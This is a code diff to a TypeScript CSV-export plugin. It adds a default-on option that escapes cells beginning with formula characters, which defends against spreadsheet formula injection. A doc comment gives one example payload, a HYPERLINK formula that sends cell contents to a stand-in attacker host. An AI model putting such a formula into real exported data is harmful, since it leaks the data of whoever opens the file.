@@ -23,6 +23,7 @@ interface Config {
   delimiter?: string;
   header?: boolean;
   unique?: boolean;
+  escapeFormulas?: boolean;
 }
 
 interface State {
@@ -47,16 +48,30 @@ export const DEFAULT_COLUMNS: string[] = [
   "rdap.expires",
 ];
 
-function csv(rows: string[][], delimiter: string): string {
-  return rows.length === 0 ? "" : stringify(rows, { delimiter, record_delimiter: "\r\n" });
+/**
+ * CSV text of `rows`. With `escapeFormulas` a text cell starting with `=`, `+`, `-`, `@`, tab or
+ * carriage return gets a leading `'`, so a spreadsheet shows it as text instead of running it as
+ * a formula: the cells come from the input file, web pages and registries, which anyone can
+ * write (`=HYPERLINK("http://evil.example/?"&A1)`).
+ */
+function csv(rows: string[][], delimiter: string, escapeFormulas = true): string {
+  return rows.length === 0
+    ? ""
+    : stringify(rows, { delimiter, record_delimiter: "\r\n", escape_formulas: escapeFormulas });
 }
 
 /**
  * A part of a `unique` export: one JSON line `[key, csvRow]` per row, so `finish` can keep the
  * first row of each key across chunks (the same domain can arrive in two chunks).
  */
-function keyedPart(keys: string[], rows: string[][], delimiter: string): string {
-  return rows.map((r, i) => JSON.stringify([keys[i], csv([r], delimiter)]) + "\n").join("");
+function keyedPart(
+  keys: string[],
+  rows: string[][],
+  delimiter: string,
+  escapeFormulas: boolean,
+): string {
+  return rows.map((r, i) => JSON.stringify([keys[i], csv([r], delimiter, escapeFormulas)]) + "\n")
+    .join("");
 }
 
 /** The `mapPart` of `finalizeParts` for keyed parts: drops rows of keys seen in earlier parts. */
@@ -100,12 +115,13 @@ export default definePlugin<Config, State>({
     const chosen = leadsOnly ? items.filter((i: Item) => i.lead === true) : items;
     const rows = chosen.map((i) => state.columns.map((c) => cellText(columnValue(i, c))));
     const delimiter = config.delimiter ?? ",";
+    const escape = config.escapeFormulas ?? true;
     await writePart(
       state.file,
       chunk,
       (config.unique ?? true)
-        ? keyedPart(chosen.map((i) => i.key), rows, delimiter)
-        : csv(rows, delimiter),
+        ? keyedPart(chosen.map((i) => i.key), rows, delimiter, escape)
+        : csv(rows, delimiter, escape),
     );
     metrics.count("rows_written", rows.length);
     return items;
